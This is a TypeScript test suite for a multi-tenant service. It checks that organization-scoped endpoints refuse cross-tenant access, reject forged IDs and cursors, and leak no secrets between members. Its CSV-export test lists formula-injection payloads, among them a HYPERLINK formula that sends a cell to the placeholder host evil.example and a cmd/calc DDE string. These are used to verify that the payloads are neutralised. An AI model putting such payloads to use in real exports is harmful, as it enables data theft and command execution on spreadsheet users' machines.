import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Step, type StepName, steps } from '../../../functions/steps.ts';
import { everythingStored, sessionsOf } from '../../support/accounts.ts';
import {
  invite,
  join,
  requireMfa,
  type Seeded,
  seeded,
  seededOrganization,
} from '../../support/organizations.ts';
import { newAddress, register, session } from '../../support/people.ts';
import { seederOf } from '../../support/seeded-accounts.ts';
import { type CallAnswer, type CallRequest, type Service, startService } from '../../support/service.ts';

/** R39: an organization's id that is taken from the path and believed. Every step, by those it is not for. */

let service: Service;
/** Two organizations, each with an owner, a member and an open invitation. */
let ours: Tenant;
let theirs: Tenant;
let stranger: Seeded;
interface Tenant {
  readonly orgID: string;
  readonly owner: Seeded;
  readonly member: Seeded;
  readonly inviteID: string;
  readonly environmentID: string;
}
beforeAll(async () => {
  service = await startService();
  const seeder = await seederOf(service);
  const tenant = async (): Promise<Tenant> => {
    const { orgID, owner } = await seededOrganization(service, seeder, 'authenticator', 'email');
    const member = await seeded(service, seeder, 'email');
    await join(service, { orgID, owner }, member);
    const { body } = await invite(service, orgID, owner.token, newAddress('guest'));
    const environment = await service.call('environments/create', {
      parameters: { orgID },
      token: owner.token,
      body: { name: 'production' },
    });
    return { orgID, owner, member, inviteID: body.id, environmentID: environment.body.id };
  };
  ours = await tenant();
  theirs = await tenant();
  stranger = await seeded(service, seeder, 'email');
  service.clock.now += 60_000;
});
afterAll(() => service.close());

const rows: readonly Step[] = steps;
const ofOrganizations = rows
  .filter(({ path }) => path.includes('{orgID}'))
  .map(({ name }) => name as StepName);
/** What a member may do; all else is for owners. */
const forMembers: readonly StepName[] = ['orgs/read', 'orgs/list-users', 'orgs/list-groups', 'orgs/leave'];

/** Bodies that each step would carry out, if it were its owner's. */
const bodies: { readonly [name in StepName]?: unknown } = {
  'orgs/rename': { name: 'Taken over' },
  'orgs/require-mfa': { required: true },
  'orgs/change-role': { role: 'owner' },
  'orgs/invite': { email: 'accomplice@example.com', role: 'owner' },
  'environments/create': { name: 'mine' },
  'orgs/confirm-member': { undoneAt: '2026-11-24T12:00:00.000Z' },
};

function requestTo(
  name: StepName,
  tenant: Tenant,
  token: string,
  more: Record<string, string> = {},
): CallRequest {
  const { orgID, member, inviteID } = tenant;
  const body = bodies[name];
  return {
    parameters: { orgID, userID: member.id, inviteID, ...more },
    token,
    ...(body !== undefined && { body }),
  };
}

async function nothingHappens(act: () => Promise<void>): Promise<void> {
  const before = await everythingStored(service);
  const mails = (await service.emulators.inbox()).length;
  await act();
  expect(await everythingStored(service)).toEqual(before);
  expect(await service.emulators.inbox()).toHaveLength(mails);
}

test('every step with an organization in its path is tried', () => {
  expect(ofOrganizations.length).toBeGreaterThanOrEqual(18);
  for (const name of forMembers) expect(ofOrganizations).toContain(name);
});

describe.each(ofOrganizations)('%s', (name) => {
  test('of an organization of others is not found, like one that does not exist', async () => {
    await nothingHappens(async () => {
      for (const caller of [ours.owner, ours.member, stranger]) {
        const { status, slug, body } = await service.call(name, requestTo(name, theirs, caller.token));
        expect({ status, slug }).toEqual({ status: 404, slug: 'not-found' });
        const nowhere = requestTo(name, { ...theirs, orgID: 'abcdefghijklmnopqrstuvwxyz' }, caller.token);
        expect((await service.call(name, nowhere)).body).toEqual(body);
      }
    });
  });

  test('of no organization: neither a row of the table, nor what is no id', async () => {
    await nothingHappens(async () => {
      for (const orgID of [
        '#deadlines',
        '#deletions',
        '',
        '.',
        '..',
        `${theirs.orgID} `,
        theirs.orgID.toUpperCase(),
        '%00',
        'x'.repeat(3000),
      ]) {
        const answer = await service.call(name, requestTo(name, { ...theirs, orgID }, ours.owner.token));
        expect(answer.slug, orgID.slice(0, 40)).toBe('not-found');
      }
    });
  });

  test('without a session is signed-out', async () => {
    await nothingHappens(async () => {
      const { token: _, ...request } = requestTo(name, theirs, '');
      expect((await service.call(name, request)).slug).toBe('signed-out');
    });
  });
});

test.each(ofOrganizations.filter((name) => !forMembers.includes(name)))(
  '%s is refused to a member',
  async (name) => {
    await nothingHappens(async () => {
      // Of the owner, whom a member might like to be rid of; of oneself, what only an owner gives.
      const about = name === 'orgs/change-role' ? theirs.member.id : theirs.owner.id;
      const request = requestTo(name, theirs, theirs.member.token, { userID: about });
      expect(await service.call(name, request)).toMatchObject({ status: 403, slug: 'forbidden' });
    });
  },
);

describe('an owner, in the own organization', () => {
  const names = (what: string) =>
    ofOrganizations.filter((name) => rows.find((row) => row.name === name)?.path.includes(what));

  test.each(names('{userID}'))('%s of somebody who is no member of it is not found', async (name) => {
    await nothingHappens(async () => {
      for (const userID of [
        theirs.member.id,
        theirs.owner.id,
        stranger.id,
        `${ours.member.id}x`,
        `member#${ours.member.id}`,
        'x'.repeat(200),
        '',
      ]) {
        const answer = await service.call(name, requestTo(name, ours, ours.owner.token, { userID }));
        expect(answer.slug, userID.slice(0, 40)).toBe('not-found');
      }
    });
  });

  test.each(names('{inviteID}'))('%s of an invitation of others is not found', async (name) => {
    await nothingHappens(async () => {
      for (const inviteID of [
        theirs.inviteID,
        `invitation#${ours.inviteID}`,
        'organization',
        `member#${ours.member.id}`,
        '',
      ]) {
        const answer = await service.call(name, requestTo(name, ours, ours.owner.token, { inviteID }));
        expect(answer.slug, inviteID).toBe('not-found');
      }
    });
  });

  test('reads no environment of others, and lists none', async () => {
    for (const { token } of [ours.owner, ours.member, stranger]) {
      const parameters = { environmentID: theirs.environmentID };
      expect((await service.call('environments/read', { parameters, token })).slug).toBe('not-found');
      const listed = await service.call('environments/list', { token });
      expect(JSON.stringify(listed.body)).not.toContain(theirs.environmentID);
    }
  });

  test('pages through the own events with a cursor of others, and sees the own', async () => {
    const events = (tenant: Tenant, query: Record<string, string>) =>
      service.call('orgs/events', { parameters: { orgID: tenant.orgID }, token: tenant.owner.token, query });
    const { next } = (await events(theirs, { limit: '1' })).body;
    expect(next).toBeTypeOf('string');
    const { status, body } = await events(ours, { cursor: next });
    expect(status).toBe(200);
    const people = [ours.owner.id, ours.member.id];
    for (const { actor } of body.events) expect(people).toContain(actor.id);
    for (const forged of [
      'organization#',
      `organization#${theirs.orgID}`,
      `user#${theirs.owner.id}`,
      '{"id":"x"}',
    ])
      expect((await events(ours, { cursor: Buffer.from(forged).toString('base64url') })).slug, forged).toBe(
        'validation',
      );
  });
});

describe('what members and owners see of each other', () => {
  const everyRead = async (tenant: Tenant, token: string): Promise<readonly CallAnswer[]> => {
    const answers: CallAnswer[] = [];
    for (const name of ofOrganizations)
      if (rows.find((row) => row.name === name)?.method === 'GET')
        answers.push(await service.call(name, requestTo(name, tenant, token)));
    const csv = { ...requestTo('orgs/coverage', tenant, token), query: { format: 'csv' } };
    answers.push(await service.call('orgs/coverage', csv));
    for (const name of ['orgs/list', 'environments/list', 'account/read', 'auth/verify'] as const)
      answers.push(await service.call(name, { token }));
    return answers;
  };

  test('no id or secret of a factor, no session, no hash, no failure count of anybody else', async () => {
    const others = [theirs.member.id, theirs.owner.id];
    for (const [own, token] of [
      [theirs.owner.id, theirs.owner.token],
      [theirs.member.id, theirs.member.token],
    ]) {
      const seen = JSON.stringify((await everyRead(theirs, token as string)).map(({ body }) => body));
      for (const userID of others.filter((id) => id !== own)) {
        const factors = (await service.rows('factors')).filter((row) => row['userID'] === userID);
        expect(factors.length).toBeGreaterThan(0);
        for (const { id, sealedSecret } of factors) {
          expect(seen).not.toContain(String(id));
          if (sealedSecret !== undefined) expect(seen).not.toContain(String(sealedSecret));
        }
        for (const { id } of await sessionsOf(service, userID)) expect(seen).not.toContain(String(id));
      }
      expect(seen).not.toMatch(
        /argon2|passwordHash|credentialVersion|sealedSecret|sessionGeneration|Failures/,
      );
    }
  });

  test('a member sees who is in, and of nobody whether there is a factor', async () => {
    const { orgID, member, owner } = theirs;
    const request = { parameters: { orgID }, token: member.token };
    const users = (await service.call('orgs/list-users', request)).body;
    expect(users.map(({ id }: { id: string }) => id).sort()).toEqual([member.id, owner.id].sort());
    for (const user of users)
      expect(Object.keys(user).sort()).toEqual(['email', 'id', 'name', 'role', 'roleID']);
    for (const body of [
      (await service.call('orgs/read', request)).body,
      (await service.call('orgs/list', request)).body[0],
    ])
      expect(body.mfa.members).toEqual({ total: 2 });
  });

  test('an owner sees that a member has a factor and of which kind, and when they were last here', async () => {
    const { orgID, owner } = theirs;
    const request = { parameters: { orgID }, token: owner.token };
    const users = (await service.call('orgs/list-users', request)).body;
    const facts = ['canChangeRole', 'canRemove', 'canReset'];
    for (const user of users) {
      const more = user.canReset ? [...facts, 'resetNeedsSecondOwner'] : facts;
      const seen = ['email', 'id', 'mfa', 'name', 'role', 'roleID', ...more];
      expect(Object.keys(user).sort()).toEqual(seen.sort());
    }
    for (const line of (await service.call('orgs/coverage', request)).body.members)
      expect(Object.keys(line).sort()).toEqual(
        ['accepted', 'email', 'id', 'lastSignedInAt', 'methods', 'mfa', 'name', 'role'].sort(),
      );
  });
});

test('an organization’s requirement is of its own members only', async () => {
  const { orgID, owner, member } = theirs;
  const only = { required: true, accept: ['authenticator'] } as const;
  expect((await requireMfa(service, orgID, owner.token, only)).status).toBe(200);
  expect((await service.call('auth/verify', { token: member.token })).status).toBe(403);
  for (const { token } of [ours.owner, ours.member, stranger])
    expect((await service.call('auth/verify', { token })).status).toBe(200);
  expect((await requireMfa(service, orgID, owner.token, { required: false })).status).toBe(200);
});

describe('the file of the coverage has no formula in it', () => {
  /** As a spreadsheet reads it: with this sign between the cells. */
  function cellsOf(text: string, separator: string): string[] {
    const cells: string[] = [];
    for (let rest = text; rest !== ''; ) {
      const quoted = /^"((?:[^"]|"")*)"/.exec(rest);
      const plain = new RegExp(`^[^${separator}\r\n]*`).exec(rest.slice(quoted?.[0].length ?? 0))?.[0] ?? '';
      cells.push((quoted?.[1]?.replaceAll('""', '"') ?? '') + plain);
      rest = rest
        .slice((quoted?.[0].length ?? 0) + plain.length)
        .replace(new RegExp(`^(${separator}|\r\n|\r|\n)`), '');
    }
    return cells;
  }

  test.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"Mike")'],
    ["+1+cmd|' /C calc'!A0"],
    ['-2+3'],
    ['@SUM(1+1)'],
    [' =1+1'],
    ['\uff1d1+1'],
    ['\uff0b1'],
    ['\uff0d1'],
    ['\uff20SUM(1)'],
    ['Mike;=1+1'],
    ['Mike,=1+1'],
    ['Mike",=1+1,"'],
    ['";=1+1;"'],
    ['Mike|=1+1'],
  ])('named %s', async (name) => {
    const person = await register(service, newAddress('=1-1'));
    const token = await session(service, person);
    const orgID = (await service.call('orgs/create', { token, body: { name: '=1+1' } })).body.id;
    expect((await service.call('account/rename', { token, body: { name } })).status).toBe(200);
    const request = { parameters: { orgID }, token, query: { format: 'csv' } };
    const file = (await service.call('orgs/coverage', request)).body as string;
    for (const separator of [',', ';', '\t'])
      for (const cell of cellsOf(file, separator))
        expect(cell, JSON.stringify(separator)).not.toMatch(/^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/);
    expect(cellsOf(file, ',')).toHaveLength(14);
  });
});
